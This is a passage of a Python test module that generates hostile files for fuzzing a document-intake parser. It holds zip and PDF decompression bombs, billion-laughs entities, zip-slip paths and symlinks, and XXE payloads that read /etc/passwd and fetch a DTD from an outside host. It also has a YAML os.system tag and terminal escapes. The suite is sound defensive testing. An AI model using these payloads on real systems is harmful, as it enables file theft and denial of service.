"""Hostile files, made anew each time from a fixed seed, and a run over them with connections denied.

Run: python -m tests.intake.hostile. It prints the slowest files and those that took most memory as JSON.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import random
import re
import resource
import select
import signal
import struct
import sys
import tempfile
import time
import traceback
import zipfile
import zlib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, NamedTuple

from tests.intake.measure import ARTICLES
from tests.intake.writers import WRITERS, layout, zipped

_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
_FILE_ENTITY = (
    '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY % out SYSTEM "http://203.0.113.9/x.dtd"> %out;]>'
)
_TEXT = "The ferry sailed again on Monday, the harbour office said. Nobody was hurt, and the boat was full. "


_SIZE = 1  # how many times the ordinary size; see --size


def files(size: int = 1) -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each file."""
    global _SIZE
    _SIZE = size
    yield from _damaged()
    yield from _zips()
    yield from _pdfs()
    yield from _html()
    yield from _markdown()
    yield from _texts()
    yield from _rich_text()
    yield from _mail()
    yield from _tables()
    yield from _plain()
    yield from _floods()
    yield from _row_floods()
    yield from _parquets()


def _damaged() -> Iterator[tuple[str, bytes]]:
    """Good files cut short or with bytes changed."""
    chance = random.Random(7)
    for form in ("docx", "odt", "epub", "pdf", "rtf", "eml", "json", "csv", "parquet"):
        good = WRITERS[form](ARTICLES[0])
        for part in (0.02, 0.3, 0.7, 0.97):
            yield f"cut-{int(part * 100)}.{form}", good[: int(len(good) * part)]
        for number in range(4):
            data = bytearray(good)
            for _ in range(12):
                data[chance.randrange(len(data))] = chance.randrange(256)
            yield f"changed-{number}.{form}", bytes(data)
        yield f"noise.{form}", bytes(chance.randrange(256) for _ in range(3_000))
        yield f"words.{form}", _TEXT.encode() * 5
    page = layout("newspaper.html", ARTICLES[0])
    for number in range(6):
        data = bytearray(page)
        for _ in range(40):
            data[chance.randrange(len(data))] = chance.randrange(256)
        yield f"changed-{number}.html", bytes(data)


class _Zeros(NamedTuple):
    """Many bytes that are not kept in memory."""

    size: int
    unit: bytes = b"0"

    def pieces(self) -> Iterator[bytes]:
        piece = self.unit * (100_000 // len(self.unit))
        for _ in range(self.size // len(piece)):
            yield piece

    def packed(self) -> bytes:
        packer = zlib.compressobj(9)
        return b"".join([packer.compress(piece) for piece in self.pieces()]) + packer.flush()


def _zip_with(form: str, main: bytes | _Zeros) -> bytes:
    """A document of a zipped format whose main part holds these bytes."""
    if form == "docx":
        return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": main})
    if form == "odt":
        return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": main})
    return zipped(
        {
            "META-INF/container.xml": '<container><rootfile full-path="b.opf"/></container>',
            "b.opf": '<package><manifest><item id="c" href="c.xhtml"/></manifest><spine><itemref idref="c"/></spine></package>',
            "c.xhtml": main,
        }
    )


def _zips() -> Iterator[tuple[str, bytes]]:
    for form in ("docx", "odt", "epub"):
        yield f"bomb-zeros.{form}", _zip_with(form, _Zeros(20_000_000))
        yield f"bomb-text.{form}", _zip_with(form, _Zeros(20_000_000, b"word "))
        yield f"laughs.{form}", _zip_with(form, (_LAUGHS + "<x>&i;</x>").encode())
        yield f"file-entity.{form}", _zip_with(form, (_FILE_ENTITY + "<x><p>&secret;</p></x>").encode())
        yield f"file-entity-16.{form}", _zip_with(form, (_FILE_ENTITY + "<x><p>&secret;</p></x>").encode("utf-16"))
        yield f"deep.{form}", _zip_with(form, b"<p>" * 20_000 + b"x" + b"</p>" * 20_000)
        yield f"wide.{form}", _zip_with(form, b"<x>" + b"<p>a</p>" * (12_000 * _SIZE) + b"</x>")
        yield f"empty-xml.{form}", _zip_with(form, b"")
        yield f"broken-xml.{form}", _zip_with(form, b"<p><b>words</p>")
        yield f"attribute.{form}", _zip_with(form, b'<p a="' + b"x" * 2_000_000 + b'">words</p>')
        yield f"control.{form}", _zip_with(form, b"<p>words\x00\x01\x02</p>")
        yield f"many.{form}", zipped({f"part{number}.xml": "x" for number in range(2_500)})
        yield f"upwards.{form}", zipped({"../../../evil.txt": "x", "/etc/evil": "x", "C:\\evil": "x"})
        yield f"empty-zip.{form}", zipped({})
        yield f"lying-size.{form}", _lying(_zip_with(form, b"0" * 2_000_000))
        yield f"huge-size.{form}", _huge(_zip_with(form, b"<p>words</p>"))
        yield f"symbolic-link.{form}", _linked(form)
        yield (
            f"attributes.{form}",
            _zip_with(form, b"<p " + b"".join(b'a%d="x" ' % n for n in range(60_000)) + b">words</p>"),
        )
        yield (
            f"namespaces.{form}",
            _zip_with(form, b"".join(b'<p xmlns:n%d="u">' % n for n in range(300)) + b"words" + b"</p>" * 300),
        )
        yield f"runs.{form}", _zip_with(form, b"<p>" + b"<r><t>a</t></r>" * (30_000 * _SIZE) + b"</p>")
        yield f"entities.{form}", _zip_with(form, b"<p>" + b"&amp;" * (100_000 * _SIZE) + b"</p>")
        yield f"comments.{form}", _zip_with(form, b"<p>" + b"<!--" + b"- " * 500_000 + b"-->words</p>")
        yield f"encrypted.{form}", _flagged(_zip_with(form, b"<p>words</p>"))
    yield "looping.epub", zipped({
        "META-INF/container.xml": '<container><rootfile full-path="b.opf"/></container>',
        "b.opf": "<package><manifest><item id='c' href='b.opf'/></manifest><spine>" + "<itemref idref='c'/>" * 400 + "</spine></package>",
    })  # fmt: skip
    yield "laughs-package.epub", zipped({
        "META-INF/container.xml": '<container><rootfile full-path="b.opf"/></container>',
        "b.opf": _LAUGHS + "<package><dc:title>&i;</dc:title></package>",
    })  # fmt: skip
    yield "laughs-container.epub", zipped({"META-INF/container.xml": _LAUGHS + "<container>&i;</container>"})
    yield "spine.epub", zipped({
        "META-INF/container.xml": '<container><rootfile full-path="b.opf"/></container>',
        "b.opf": "<package><manifest><item id='c' href='c.xhtml'/></manifest><spine>" + "<itemref idref='c'/>" * 5_000 + "</spine></package>",
        "c.xhtml": "<html><body>" + "<p>words and words and words</p>" * 400 + "</body></html>",
    })  # fmt: skip
    yield "outside.epub", zipped({
        "META-INF/container.xml": '<container><rootfile full-path="../../etc/passwd"/></container>',
    })  # fmt: skip
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a", b"0" * 10_000_000)
    yield (
        "zip-in-zip.docx",
        zipped(
            {f"word/{number}.zip": inner.getvalue() for number in range(50)} | {"word/document.xml": "<p>words</p>"}
        ),
    )


def _linked(form: str) -> bytes:
    """A document whose main part is a symbolic link, as archives can hold them."""
    name = {"docx": "word/document.xml", "odt": "content.xml"}.get(form, "META-INF/container.xml")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo(name)
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _huge(data: bytes) -> bytes:
    """The same archive, saying that each part is four gigabytes long."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        out[at + 24 : at + 28] = b"\xfe\xff\xff\xff"
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def _lying(data: bytes) -> bytes:
    """The same archive, saying that each part is ten bytes long."""
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    while at >= 0:
        out[at + 24 : at + 28] = struct.pack("<I", 10)
        at = out.find(b"PK\x01\x02", at + 4)
    return bytes(out)


def _flagged(data: bytes) -> bytes:
    """The same archive with every part marked as encrypted."""
    out = bytearray(data)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(mark)
        while at >= 0:
            out[at + place] |= 1
            at = out.find(mark, at + 4)
    return bytes(out)


def _pdf_of(*objects: bytes, trailer: bytes = b"/Root 1 0 R") -> bytes:
    out, places = b"%PDF-1.5\n", []
    for number, item in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + item + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % place for place in places
    )
    return out + table + b"trailer << /Size %d %s >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, trailer, len(out))


def _pdfs() -> Iterator[tuple[str, bytes]]:
    catalogue = b"<< /Type /Catalog /Pages 2 0 R >>"
    one = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"

    def stream(content: bytes, extra: bytes = b"") -> bytes:
        return b"<< /Length %d %s >> stream\n" % (len(content), extra) + content + b"\nendstream"

    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << >> >>"
    bomb = _Zeros(150_000_000).packed()
    yield "stream-bomb.pdf", _pdf_of(catalogue, one, page, stream(bomb, b"/Filter /FlateDecode"))
    yield (
        "double-bomb.pdf",
        _pdf_of(catalogue, one, page, stream(zlib.compress(bomb, 9), b"/Filter [/FlateDecode /FlateDecode]")),
    )
    yield "hex-flood.pdf", _pdf_of(catalogue, one, page, stream(b"<" + b"41" * (400_000 * _SIZE) + b"> Tj"))
    yield "tj-flood.pdf", _pdf_of(catalogue, one, page, stream(b"BT /F1 9 Tf " + b"(a) Tj " * (20_000 * _SIZE) + b"ET"))
    yield "q-flood.pdf", _pdf_of(catalogue, one, page, stream(b"q " * (60_000 * _SIZE)))
    yield "array-deep.pdf", _pdf_of(catalogue, one, page, stream(b"[" * 50_000))
    yield "dict-deep.pdf", _pdf_of(b"<< /A " * 5_000 + b">>" * 5_000, one, page, stream(b""))
    yield "kids-loop.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>")
    yield (
        "parent-loop.pdf",
        _pdf_of(
            catalogue,
            b"<< /Type /Pages /Parent 3 0 R /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
        ),
    )
    yield "count-lie.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [] /Count 999999999 >>")
    yield "no-pages.pdf", _pdf_of(catalogue, b"<< /Type /Pages /Kids [] /Count 0 >>")
    yield "contents-loop.pdf", _pdf_of(catalogue, one, b"<< /Type /Page /Parent 2 0 R /Contents [3 0 R 3 0 R] >>")
    yield "length-lie.pdf", _pdf_of(catalogue, one, page, b"<< /Length 999999999 >> stream\nBT (x) Tj ET\nendstream")
    yield "length-loop.pdf", _pdf_of(catalogue, one, page, b"<< /Length 4 0 R >> stream\nBT (x) Tj ET\nendstream")
    yield "form-loop.pdf", _pdf_of(
        catalogue, one, b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>", stream(b"/X Do"),
        stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /Resources << /XObject << /X 5 0 R >> >>"),
    )  # fmt: skip
    yield "prev-loop.pdf", _pdf_of(catalogue, one, page, stream(b""), trailer=b"/Root 1 0 R /Prev 9")
    yield (
        "encrypted.pdf",
        _pdf_of(
            catalogue,
            one,
            page,
            stream(b""),
            trailer=b"/Root 1 0 R /Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 /Length 128 >> /ID [(a)(b)]",
        ),
    )
    yield "no-root.pdf", _pdf_of(catalogue, trailer=b"")
    yield (
        "many-pages.pdf",
        _pdf_of(catalogue, b"<< /Type /Pages /Kids [" + b"3 0 R " * 5_000 + b"] /Count 5000 >>", page, stream(b"")),
    )
    yield (
        "link-out.pdf",
        _pdf_of(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://203.0.113.9/) >> >>",
            one,
            page,
            stream(b"BT /F1 9 Tf (words) Tj ET"),
        ),
    )
    yield "outside-file.pdf", _pdf_of(catalogue, one, page, b"<< /Length 0 /F (/etc/passwd) >> stream\n\nendstream")
    yield "only-header.pdf", b"%PDF-1.7"
    yield "header-flood.pdf", b"%PDF-1.7\n" * 100_000
    yield "obj-flood.pdf", b"%PDF-1.7\n" + b"1 0 obj " * 100_000
    yield "cmap-bomb.pdf", _pdf_of(
        catalogue, one, b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>", stream(b"BT /F1 9 Tf (words) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>", stream(b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"),
    )  # fmt: skip


def _html() -> Iterator[tuple[str, bytes]]:
    def page(body: str, head: str = "") -> bytes:
        return f"<!DOCTYPE html><html><head><title>A page of some kind</title>{head}</head><body>{body}</body></html>".encode()

    words = f"<p>{_TEXT * 3}</p>"
    yield "deep.html", page("<div>" * 30_000 + words)
    yield "deep-100000.html", page("<div>" * 100_000 + words + "</div>" * 100_000)
    yield "deep-bold.html", page("<b>" * 100_000 + "words")
    yield "deep-lists.html", page("<ul><li>" * 50_000 + words)
    yield "cells.html", page("<table>" + "<tr><td>a<td>b" * (20_000 * _SIZE) + "</table>")
    yield "quotations.html", page("<p>" + "“We sail,” said Ana Petrov. " * (3_000 * _SIZE) + "</p>")
    yield "sections.html", page("<div class='byline'>By Ana Petrov</div>" * (3_000 * _SIZE) + words)
    yield "times.html", page("<time datetime='2031-05-04'>4 May 2031</time>" * (4_000 * _SIZE) + words)
    yield "metas.html", page(words, "<meta name='author' content='Ana Petrov'>" * (8_000 * _SIZE))
    yield "deep-300.html", page("<div>" * 300 + words + "</div>" * 300)
    yield "deep-inline.html", page("<b><i>" * 5_000 + words)
    yield "deep-tables.html", page("<table><tr><td>" * 2_000 + words)
    yield "wide.html", page("<p>short words here</p>" * (12_000 * _SIZE))
    yield "wide-same.html", page(words * (600 * _SIZE))
    yield "wide-links.html", page('<a href="/x">to elsewhere</a> ' * (8_000 * _SIZE))
    yield "one-paragraph.html", page("<p>" + _TEXT * (3_600 * min(_SIZE, 5)) + "</p>")
    yield "too-large.html", page("<p>" + _TEXT * 25_000 + "</p>")
    yield "breaks.html", page("words<br>" * (30_000 * _SIZE))
    yield "attribute.html", page(f'<p class="{"x" * 1_500_000}">{_TEXT}</p>')
    yield "classes.html", page(f'<div class="{"ad-nav-share " * 50_000}">{words}</div>')
    yield "unclosed.html", page("<p><a><b><span>" * (4_000 * _SIZE))
    yield "brackets.html", page("<" * (100_000 * _SIZE))
    yield "entities.html", page("&amp;" * (40_000 * _SIZE) + "&#x110000;&#99999999;&nosuch;" * 1_000)
    yield "laughs.html", (_LAUGHS + f"<html><body><p>&i;</p>{words}</body></html>").encode()
    yield "file-entity.html", (_FILE_ENTITY + f"<html><body><p>&secret;</p>{words}</body></html>").encode()
    yield (
        "links-out.html",
        page(
            '<iframe src="file:///etc/passwd"></iframe><img src="http://203.0.113.9/x"><object data="http://203.0.113.9/"></object>'
            + words,
            '<base href="http://203.0.113.9/"><link rel="stylesheet" href="http://203.0.113.9/x.css"><meta http-equiv="refresh" content="0;url=http://203.0.113.9/">',
        ),
    )
    yield "include.html", page('<xi:include href="file:///etc/passwd" parse="text"/>' + words)
    yield "script.html", page(words, "<script>" + "x(" * 300_000 + "</script>")
    yield "ld-deep.html", page(words, '<script type="application/ld+json">' + "[" * 100_000 + "</script>")
    yield (
        "ld-wide.html",
        page(
            words,
            '<script type="application/ld+json">'
            + json.dumps([{"@type": "NewsArticle", "author": [{"name": "x" * 900}] * 200}] * 5)
            + "</script>",
        ),
    )
    yield (
        "ld-types.html",
        page(
            words,
            '<script type="application/ld+json">{"@type": ["NewsArticle", 3, null], "headline": 5, "author": {"name": [[]]}, "datePublished": {}, "articleSection": [null]}</script>',
        ),
    )
    yield "nul.html", page("<p>wor\x00ds " + _TEXT * 4 + "</p>")
    yield "charset-unknown.html", page(words, '<meta charset="no-such-charset">')
    yield "charset-utf7.html", page("<p>+ADw-script+AD4-</p>" + words, '<meta charset="utf-7">')
    yield "charset-zip.html", page(words, '<meta charset="zip">')
    yield "utf16.html", page(words).decode().encode("utf-16")
    yield "comment.html", page("<!--" + words * 50)
    yield "plaintext.html", page("<plaintext>" + words * 20)
    yield "frames.html", b"<html><frameset><frame src='http://203.0.113.9/'></frameset></html>"
    yield "nothing.html", page("")
    yield "only-script.html", b"<script>1</script>"
    yield "svg.html", page("<svg>" + "<g>" * 1_000 + "<script>1</script></svg>" + words)
    yield "markup-in-words.html", page("<p>&lt;script&gt;alert(1)&lt;/script&gt; " + _TEXT * 3 + "</p>")
    yield "form-feed.html", page("\x0c".join([words] * 50))


def _markdown() -> Iterator[tuple[str, bytes]]:
    for name, unit in {
        "stars": "*", "underlines": "_", "tildes": "~", "open-brackets": "[", "close-brackets": "]", "images": "![", "links": "[a](",
        "ticks": "`", "quotes": "> ", "hashes": "#", "comments": "<!--", "tags": "<a ", "ampersands": "&a", "escapes": "\\", "bullets": "- ", "star-words": "*a ",
        "pairs": "**a** ", "nested-links": "[[a](b)](c) ", "references": "[a]: b\n", "rules": "---\n", "fences": "```\n", "numbers": "1. ", "pipes": "|",
    }.items():  # fmt: skip
        yield f"{name}.md", ("# A heading\n\n" + unit * (60_000 * _SIZE // len(unit)) + "\n\n" + _TEXT).encode()
    yield (
        "front-matter-laughs.md",
        (
            "---\n"
            + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 60))
            + "title: *a59\n---\n"
            + _TEXT
        ).encode(),
    )
    yield "front-matter-list.md", ("---\nauthor:\n" + "  - Ana Petrov\n" * 1_500 + "---\n" + _TEXT).encode()
    yield "front-matter-brackets.md", ("---\nauthor: [" + "Ana, " * 3_000 + "]\n---\n" + _TEXT).encode()
    yield "emphasis.md", ("*a **b ***c " * (5_000 * _SIZE)).encode()
    yield "footnotes.md", ("[^a]: words\n\n" * (4_000 * _SIZE)).encode()
    yield "tables.md", ("| a | b |\n|---|---|\n" * (4_000 * _SIZE)).encode()
    yield "front-matter-open.md", ("---\n" + "a: b\n" * 50_000).encode()
    yield "front-matter-deep.md", ("---\ntitle: " + "[" * 5_000 + "]" * 5_000 + "\n---\n" + _TEXT).encode()
    yield (
        "front-matter-alias.md",
        ("---\na: &a [x]\nb: *a\ntitle: !!python/object/apply:os.system ['true']\n---\n" + _TEXT).encode(),
    )
    yield "line.md", (_TEXT * (600 * _SIZE)).encode()


def _texts() -> Iterator[tuple[str, bytes]]:
    for name, unit in {
        "a": "a", "spaces-words": "a ", "open": "(", "quotes": "“", "straight-quotes": '"', "apostrophes": "'", "full-stops": ". ", "initials": "A. ", "capitals": "Aa Bb ",
        "dashes": "— ", "breaks": "\r", "breaks-words": "a\n", "comments": "Comments\n", "short-lines": "Foo bar.\n", "captions": "Harbour emblem.\n\n", "bullets": "• x\n",
        "labels": "Opinion: ", "by": "By ", "bylines": "By Ana Petrov\n", "said": "said Ana Petrov, ", "unclosed": "“We said ", "nested": "“‘", "numbers": "1. ",
        "notes": "Ana Petrov is a writer.\n\n", "related": "Related\nlink\n", "dates": "May 4, 2031\n", "marks": "a\u0301\u0300", "soft": "so\u00adft ", "zero": "\u200b", "rtl": "\u202eabc ",
        "emoji": "👩‍👩‍👧‍👦 ", "url": "https://a.example/?", "at": "a@", "hyphens": "a-", "stops": "a.b.", "commas": "a, ", "according": "according to ", "sources": "a source said ",
        "word": "wordandword", "quoted": "“a” ", "he-said": "he said that ", "one-sentence": "the council said the boat may sail and ", "bangs": "No! ", "questions": "Why? ",
        "open-paragraphs": "“It may sail.\n\n", "combining": "\u0301", "joiners": "a\u200d", "isolates": "\u2067a\u2069 ", "tabs": "\t", "ideographs": "船 ", "cases": "ABC DEF ",
        "closing": "a." + "'" * 60 + "b ", "stops-colons": "They said" + "." * 200 + " a b c d e f g:\n\n", "low-quotes": "„a ", "first": "I ", "possessives": "Ana Petrov’s ", "chains": "the head of the ", "colons": "Ana Petrov: we sail.\n", "who": "who said that who ", "headings": "A Short Line\n\n", "corrections": "Correction: it sailed.\n\n",
        "ellipses": "… ", "semicolons": "a; ", "mail": "a@b.example ", "percent": "5% ", "tags": "<p>a</p> ", "abbreviations": "U.S. ", "titles": "Mr. ", "tables": "a\tb\tc\n", "wrapped": "the council said the boat may sail and that it will be full on\n",
    }.items():  # fmt: skip
        yield f"{name}.txt", (unit * (60_000 * _SIZE // len(unit))).encode()
    for name, words in (
        ("names", _names(" said it. ")),
        ("list-of-names", _names(", ")),
        ("quotations-of-names", _names(" said: “We sail.” ")),
        (
            "labels-of-names",
            re.sub(r"Ana (\w+)", lambda found: found[1].upper(), _names(": the quay is open to boats.\n\n")),
        ),
    ):
        yield f"{name}.txt", words.encode()
    yield "lone-surrogates.txt", ("\ud800 words " * 2_000).encode("utf-8", "surrogatepass")
    yield "mixed-encodings.txt", (_TEXT + "é “a” ").encode() * 500 + b"\xe9\x93 " * 400
    yield "surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80 words"
    yield "overlong.txt", b"\xc0\xaf\xe0\x80\xaf words"
    yield "too-large.txt", b"word " * 1_100_000
    yield "utf16-odd.txt", b"\xff\xfea\x00b"
    yield "utf32.txt", "words and words".encode("utf-32")
    yield "nul.txt", b"words\x00words" * 100
    yield "escape.txt", b"\x1b[2J\x1b]0;owned\x07 The ferry sailed again on Monday.\n" * 20
    yield "plain-html.txt", layout("blog.html", ARTICLES[0])


def _names(between: str) -> str:
    """Thousands of names, no two the same."""
    syllables = ("ba", "de", "fo", "gu", "ha", "ki", "lo", "mu", "ne", "ro")
    every = (f"Ana {a}{b}{c}{d}".title() for a in syllables for b in syllables for c in syllables for d in syllables)
    count = 60_000 * _SIZE // (13 + len(between))
    return between.join(name for name, _ in zip(every, range(count), strict=False))


def _rich_text() -> Iterator[tuple[str, bytes]]:
    for name, code in {
        "deep": "{" * 50_000, "unicode": "\\u9999?" * (6_000 * _SIZE), "bin": "\\bin999999999 x", "hex": "\\'e9" * (10_000 * _SIZE), "picture": "{\\pict " + "ab" * 2_000_000 + "}",
        "control": "\\" + "a" * 300_000, "numbers": "\\fs99999999999999999999 words", "negative": "\\u-99999? words", "stars": "{\\*\\x" * 300 + "}" * 300, "link": '{\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}{\\fldrslt words}}',
    }.items():  # fmt: skip
        yield f"{name}.rtf", ("{\\rtf1\\ansi " + code + " words}").encode()


def _mail() -> Iterator[tuple[str, bytes]]:
    parts = b"".join(b'Content-Type: multipart/mixed; boundary="c%d"\r\n\r\n--c%d\r\n' % (n, n) for n in range(1_000))
    yield "nested-1000.eml", b"Subject: A subject\r\n" + parts + b"\r\nwords"
    yield (
        "many-parts.eml",
        b'Subject: A\r\nContent-Type: multipart/mixed; boundary="d"\r\n\r\n'
        + b"--d\r\nContent-Type: image/png\r\n\r\nx\r\n" * 20_000,
    )
    yield "quoted-lines.eml", b"Subject: A\r\n\r\nwords\r\n\r\n" + b"> words\r\n\r\n" * (8_000 * _SIZE)
    yield (
        "quoted-printable.eml",
        b"Subject: A\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + b"=E2=80=9Cw=\r\n" * (8_000 * _SIZE),
    )
    head = b"Subject: A subject\r\nFrom: Ana Petrov <a@b.example>\r\n"
    nested = b""
    for number in range(400):
        nested += b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (number, number)
    yield "nested.eml", head + nested + b"\r\nwords"
    yield "messages.eml", (head + b"Content-Type: message/rfc822\r\n\r\n") * 400 + b"\r\nwords"
    yield "headers.eml", b"X-A: b\r\n" * 100_000 + b"\r\nwords"
    yield "long-header.eml", b"Subject: " + b"a" * 2_000_000 + b"\r\n\r\nwords"
    yield "encoded.eml", b"Subject: " + b"=?utf-8?q?=41?= " * 5_000 + b"\r\n\r\nwords"
    yield "charset.eml", head + b"Content-Type: text/plain; charset=no-such\r\n\r\nw\xf6rds and words"
    yield "charset-zip.eml", head + b"Content-Type: text/plain; charset=zip\r\n\r\nwords and words"
    yield (
        "base64.eml",
        head + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b"!!!not base64" * 1_000,
    )
    yield "bad-date.eml", head + b"Date: Thu, 99 Foo 99999 99:99:99 +99999\r\n\r\nwords and words"
    yield "only-attachment.eml", head + b"Content-Disposition: attachment\r\nContent-Type: text/plain\r\n\r\nwords"
    yield "html.eml", head + b"Content-Type: text/html\r\n\r\n" + layout("plain.html", ARTICLES[0])
    yield "boundary.eml", head + b'Content-Type: multipart/mixed; boundary="' + b"b" * 100_000 + b'"\r\n\r\nwords'
    yield "addresses.eml", b"From: " + b"(" * 20_000 + b"\r\nSubject: x\r\n\r\nwords"


def _tables() -> Iterator[tuple[str, bytes]]:
    yield "deep.json", b"[" * 200_000
    yield "deep-object.json", b'{"a":' * 100_000
    yield "number.json", b'[{"text": ' + b"9" * 100_000 + b"}]"
    yield "nan.json", b'[{"text": NaN}, {"text": Infinity}]'
    yield "types.json", b'[1, null, "x", [], {"text": {"name": {"name": 3}}}, {"text": true}, {"text": ["a", ["b"]]}]'
    yield "surrogate.json", b'[{"text": "\\ud800 words"}]'
    yield "many.json", json.dumps([{"text": _TEXT}] * 300).encode()
    yield "empty-list.json", b"[]"
    yield "scalar.json", b"5"
    yield "broken.jsonl", b'{"text": "words"}\n{"text": \nnull\n[1]\n{}\n\xff\xfe\n{"text": "words"}\n'
    yield "deep.jsonl", b'{"text":' * 50_000 + b"\n"
    yield "long-line.jsonl", b'{"text": "' + b"a" * 21_000_000 + b'"}\n{"text": "words"}\n'
    yield "quote.csv", b'text\n"' + b"a,b\n" * (20_000 * _SIZE)
    yield "columns.csv", b"a," * (20_000 * _SIZE) + b"text\n" + b"1," * (20_000 * _SIZE) + b"words\n"
    yield "nul.csv", b"text\nwor\x00ds\n"
    yield "no-text.csv", b"a,b\n1,2\n"
    yield "short-rows.csv", b"text,title\nwords\nwords,a,b,c,d\n\n"
    yield "latin.csv", "text\nDie Fähre fährt für die Gäste\n".encode("cp1252")
    yield "one-cell.csv", b'text\n"' + b"word " * 10_000_000 + b'"\n'
    yield "many-columns.csv", b"text" + b",a" * 200_000 + b"\nwords\n"
    yield "deep-million.jsonl", b"[" * 1_000_000 + b"\n"
    yield "garbage.parquet", b"PAR1" + bytes(range(256)) * 400 + b"PAR1"
    yield "length.parquet", b"PAR1" + b"\xff\xff\xff\x7f" * 3 + b"PAR1"
    yield (
        "html-field.json",
        json.dumps(
            [
                {"text": "<p>" * 20_000 + _TEXT},
                {"text": "<p><a href='" * 5_000},
                {"text": "<p>&#x110000;&#99999999;&#0;" * 5_000},
            ]
        ).encode(),
    )
    yield "separators.csv", b"sep=\n" * 5 + b"text\nwords\n"
    yield "no-rows.csv", b"text\n"
    yield "utf16.csv", "text\nwords and words\n".encode("utf-16")


def _plain() -> Iterator[tuple[str, bytes]]:
    """Honest in kind, too much in number: what a text's length alone can cost."""
    yield "paragraph.txt", _TEXT.encode() * (2_000 * _SIZE)
    yield (
        "numbered.txt",
        "".join(
            f"{n}. The ferry sailed, said Ana Petrov of the harbour office.\n" for n in range(3_000 * _SIZE)
        ).encode(),
    )
    yield "said.txt", b"said Ana Bo, " * (6_000 * _SIZE)
    yield (
        "paragraphs.docx",
        _zip_with(
            "docx",
            b"<d>" + b"".join(b"<p><r><t>Ferry %d sailed.</t></r></p>" % n for n in range(8_000 * _SIZE)) + b"</d>",
        ),
    )
    yield "pre.html", ("<html><body><pre>" + _TEXT * (2_500 * _SIZE) + "</pre></body></html>").encode()


def _floods() -> Iterator[tuple[str, bytes]]:
    """Small files that become large inside a parser."""
    chance = random.Random(11)
    padding = bytes(chance.randrange(33, 60) for _ in range(300_000 * min(_SIZE, 2)))
    for form in ("docx", "odt", "epub"):
        nodes = b"<x>" + b"<a/>" * (2_000_000 * _SIZE) + b"<!--" + padding.replace(b"-", b"+") + b"--></x>"
        yield f"nodes.{form}", _zip_with(form, nodes)
        late = b"<!--" + b" " * 9_000 + b"-->" + b'<!DOCTYPE x [<!ENTITY e "entity words">]>' + b"<x><p>&e;</p></x>"
        yield f"late-entity.{form}", _zip_with(form, late)
        yield (
            f"wide-entity.{form}",
            _zip_with(
                form,
                b'<?xml version="1.0" encoding="UTF-16"?>'.decode().encode("utf-16")
                + late.decode().encode("utf-16-le"),
            ),
        )
        yield (
            f"attribute-flood.{form}",
            _zip_with(
                form,
                b"<x>" + b"".join(b'<p a%d="" b%d="" c%d=""/>' % (n, n, n) for n in range(80_000 * _SIZE)) + b"</x>",
            ),
        )
    names = " ".join(f"a{number}=''" for number in range(30_000 * _SIZE))
    words = f"<p>{_TEXT * 4}</p>"
    yield "attributes.html", f"<html><body><p {names}>x</p>{words}</body></html>".encode()
    yield "attributes-hidden.html", f"<html><body><p title='<!--> > <p' {names} \">x</p>{words}</body></html>".encode()
    yield (
        "attributes-many.html",
        (
            "<html><body>"
            + ("<p " + " ".join(f"a{n}" for n in range(900)) + ">x</p>") * (60 * _SIZE)
            + words
            + "</body></html>"
        ).encode(),
    )
    rules = "".join(f".a{n}.b{{display:none}} p,.c{n % 9}{{opacity:.{n}}}\n" for n in range(5_000 * _SIZE))
    yield (
        "rules.html",
        f"<html><head><style>{rules}</style></head><body>{'<p class=b>a</p>' * (4_000 * _SIZE)}{words}</body></html>".encode(),
    )
    yield (
        "selectors.html",
        f"<html><head><style>{'a,' * (100_000 * _SIZE)}{{display:none}}{'{' * 9_000}</style></head><body>{words}</body></html>".encode(),
    )
    for name in ("punycode", "idna", "unicode_escape", "uu", "bz2"):
